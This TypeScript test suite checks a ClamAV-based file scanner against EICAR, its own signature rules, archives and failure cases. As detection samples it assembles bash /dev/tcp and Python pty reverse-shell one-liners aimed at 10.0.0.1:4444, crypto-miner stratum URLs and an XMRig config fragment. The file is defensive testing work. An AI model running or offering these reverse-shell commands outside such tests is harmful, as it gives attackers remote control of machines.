/**
 * The ClamAV scanner against the real `clamscan` and the signature files shipped in security/clamav:
 * EICAR found plain, gzip-compressed and inside tar and cpio archives; Rampart's own rules fire; clean
 * data is clean; and every failure (missing file, broken or missing database, limits, timeouts) is an
 * `error`, never `clean`. Test strings are assembled at run time so this file itself matches no rule.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { clamscanVersion, parseClamscanOutput, scanFile, SHIPPED_DATABASE_DIR } from './scanner.js';

const dir = mkdtempSync(join(tmpdir(), 'rampart-scanner-test-'));
after(() => rmSync(dir, { recursive: true, force: true }));

/** The 68-byte EICAR test string, built from parts so that no source file contains it. */
function eicar(): Buffer {
  const parts = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'];
  const value = Buffer.from(parts.join(''), 'latin1');
  assert.equal(value.length, 68);
  return value;
}

let counter = 0;
function file(content: Buffer | string): string {
  const path = join(dir, `sample-${++counter}.bin`);
  writeFileSync(path, content);
  return path;
}

/** Random bytes around a payload, as it would sit inside a disk image. */
function embedded(payload: Buffer): Buffer {
  return Buffer.concat([randomBytes(64 * 1024), payload, randomBytes(64 * 1024)]);
}

function archive(tool: 'tar' | 'cpio', payload: Buffer): string {
  const work = join(dir, `archive-${++counter}`);
  mkdirSync(work);
  writeFileSync(join(work, 'payload.txt'), payload);
  writeFileSync(join(work, 'other.txt'), 'nothing to see\n');
  const out = join(dir, `archive-${counter}.${tool}`);
  if (tool === 'tar') execFileSync('tar', ['-cf', out, '-C', work, 'other.txt', 'payload.txt']);
  else {
    const cpio = execFileSync('cpio', ['-o', '-H', 'newc', '--quiet'], {
      cwd: work,
      input: 'other.txt\npayload.txt\n',
    });
    writeFileSync(out, cpio);
  }
  return out;
}

describe('scanFile', () => {
  test('reports the engine and a stable database version', async () => {
    assert.match(await clamscanVersion(), /^ClamAV \d+\.\d+/);
    const a = await scanFile(file('hello'));
    const b = await scanFile(file('world'));
    assert.equal(a.verdict, 'clean');
    assert.match(a.engineVersion, /^ClamAV /);
    assert.match(a.databaseVersion, /^sha256:[0-9a-f]{64}$/);
    assert.equal(a.databaseVersion, b.databaseVersion);
    assert.deepEqual(
      a.databases.map((d) => d.name),
      ['0/rampart.ldb', '0/rampart.ndb'],
    );
    assert.ok(a.durationMs >= 0);
    assert.ok(!Number.isNaN(Date.parse(a.scannedAt)));
  });

  test('a clean random file is clean', async () => {
    const result = await scanFile(file(randomBytes(1024 * 1024)));
    assert.equal(result.verdict, 'clean', result.error);
    assert.deepEqual(result.signatures, []);
  });

  test('the EICAR string is found with its signature name', async () => {
    const result = await scanFile(file(eicar()));
    assert.equal(result.verdict, 'infected');
    assert.deepEqual(result.signatures, ['Rampart.Test.EICAR.UNOFFICIAL']);
  });

  test('EICAR embedded in the middle of random data is found', async () => {
    const result = await scanFile(file(embedded(eicar())));
    assert.equal(result.verdict, 'infected');
    assert.deepEqual(result.signatures, ['Rampart.Test.EICAR.UNOFFICIAL']);
  });

  test('EICAR inside gzip-compressed data is found', async () => {
    const result = await scanFile(file(gzipSync(embedded(eicar()))));
    assert.equal(result.verdict, 'infected');
    assert.deepEqual(result.signatures, ['Rampart.Test.EICAR.UNOFFICIAL']);
  });

  for (const tool of ['tar', 'cpio'] as const) {
    test(`EICAR inside a ${tool} archive (plain and gzip-compressed) is found`, async () => {
      const plain = archive(tool, eicar());
      const result = await scanFile(plain);
      assert.equal(result.verdict, 'infected');
      assert.deepEqual(result.signatures, ['Rampart.Test.EICAR.UNOFFICIAL']);
      const compressed = file(gzipSync(execFileSync('cat', [plain])));
      assert.equal((await scanFile(compressed)).verdict, 'infected');
    });
  }

  test("Rampart's own rules fire on their test strings", async () => {
    const cases: Array<[string, string]> = [
      ['Rampart.Test.MalwareMarker', ['RAMPART-TEST-', 'MALWARE-MARKER:', 'demo'].join('')],
      ['Rampart.Unix.ReverseShell.DevTcp', ['bash -i >& ', '/dev/', 'tcp/10.0.0.1/4444 0>&1'].join('')],
      ['Rampart.Unix.ReverseShell.ExecDevTcp', ['0<&196;exec 196<>', '/dev/', 'tcp/10.0.0.1/4444'].join('')],
      ['Rampart.Unix.Miner.StratumUrl', ['"url": "stratum', '+tcp://', 'pool.example:3333"'].join('')],
      ['Rampart.Unix.Miner.StratumUrl', ['"url": "stratum', '+ssl://', 'pool.example:443"'].join('')],
      [
        'Rampart.Unix.ReverseShell.Python',
        [
          'import socket,os,pty;s=socket.socket();s.',
          'connect(("10.0.0.1",4444));',
          'os.dup2(s.',
          'fileno(),0);pty.spawn("/bin/',
          'sh")',
        ].join(''),
      ],
      ['Rampart.Unix.Miner.XMRig', ['{"autosave": true, "donate', '-level": 1} # XM', 'Rig 6.21'].join('')],
    ];
    for (const [name, text] of cases) {
      const result = await scanFile(file(embedded(Buffer.from(text))));
      assert.equal(result.verdict, 'infected', `${name}: ${result.error ?? 'clean'}`);
      assert.deepEqual(result.signatures, [`${name}.UNOFFICIAL`]);
    }
  });

  test('near misses of the rules stay clean', async () => {
    const text = 'the bash manual documents /dev/tcp; stratum is a layer; xmrig is a word here.\n';
    assert.equal((await scanFile(file(text))).verdict, 'clean');
  });

  test('an operator database directory is loaded too and changes the database version', async () => {
    const operator = join(dir, 'operator-db');
    mkdirSync(operator);
    const marker = ['OPERATOR-', 'BLOCKED-', 'STRING'].join('');
    writeFileSync(
      join(operator, 'local.ndb'),
      `Operator.Test.Blocked:0:*:${Buffer.from(marker).toString('hex')}\n`,
    );
    const target = file(embedded(Buffer.from(marker)));
    assert.equal((await scanFile(target)).verdict, 'clean');
    const result = await scanFile(target, { extraDatabaseDirs: [operator] });
    assert.equal(result.verdict, 'infected');
    assert.deepEqual(result.signatures, ['Operator.Test.Blocked.UNOFFICIAL']);
    assert.notEqual(result.databaseVersion, (await scanFile(file('x'))).databaseVersion);
    assert.deepEqual(
      result.databases.map((d) => d.name),
      ['0/rampart.ldb', '0/rampart.ndb', '1/local.ndb'],
    );
  });

  test('a missing file is an error, never clean', async () => {
    const result = await scanFile(join(dir, 'does-not-exist'));
    assert.equal(result.verdict, 'error');
    assert.ok(result.error);
  });

  test('a directory is an error, never clean', async () => {
    assert.equal((await scanFile(dir)).verdict, 'error');
  });

  test('a broken, empty or missing database directory is an error, never clean', async () => {
    const broken = join(dir, 'broken-db');
    mkdirSync(broken);
    writeFileSync(join(broken, 'bad.ndb'), 'this is not a signature\n');
    const empty = join(dir, 'empty-db');
    mkdirSync(empty);
    const target = file(randomBytes(4096));
    for (const options of [
      { extraDatabaseDirs: [broken] },
      { extraDatabaseDirs: [join(dir, 'no-such-db')] },
      { shippedDatabaseDir: empty },
      { shippedDatabaseDir: broken },
    ]) {
      const result = await scanFile(target, options);
      assert.equal(result.verdict, 'error', JSON.stringify(options));
      assert.ok(result.error);
    }
  });

  test('a file above the size limit is an error, never clean', async () => {
    const result = await scanFile(file(randomBytes(200 * 1024)), { maxFileSizeBytes: 100 * 1024 });
    assert.equal(result.verdict, 'error');
    assert.match(result.error ?? '', /above the scan limit/);
  });

  test('data inside an archive above the scan limit is an error, never clean', async () => {
    // 4 MiB of zeros gzip to a few KiB: the file passes the size check, its content does not.
    const bomb = file(gzipSync(Buffer.alloc(4 * 1024 * 1024)));
    const result = await scanFile(bomb, { maxFileSizeBytes: 1024 * 1024 });
    assert.equal(result.verdict, 'error', JSON.stringify(result));
    assert.match(result.error ?? '', /limits exceeded/);
  });

  test('a timeout is an error, never clean', async () => {
    const result = await scanFile(file(randomBytes(1024)), { timeoutMs: 1 });
    assert.equal(result.verdict, 'error');
  });

  test('a missing clamscan binary is an error, never clean', async () => {
    const result = await scanFile(file('x'), { clamscanBinary: join(dir, 'no-clamscan') });
    assert.equal(result.verdict, 'error');
    assert.equal(result.engineVersion, '');
  });

  test('the shipped database directory is security/clamav of the repository', () => {
    assert.match(SHIPPED_DATABASE_DIR, /security\/clamav$/);
  });
});

describe('parseClamscanOutput', () => {
  test('takes signature names from the end of lines, whatever the path contains', () => {
    const out = [
      '/tmp/a: b.img: Rampart.Test.EICAR.UNOFFICIAL FOUND',
      '/tmp/odd FOUND name: Win.Test.EICAR_HDB-1 FOUND',
      '/tmp/again: Rampart.Test.EICAR.UNOFFICIAL FOUND',
      "WARNING: /tmp/x: Can't access file",
      '',
    ].join('\n');
    assert.deepEqual(parseClamscanOutput(out), ['Rampart.Test.EICAR.UNOFFICIAL', 'Win.Test.EICAR_HDB-1']);
    assert.deepEqual(parseClamscanOutput(''), []);
  });
});
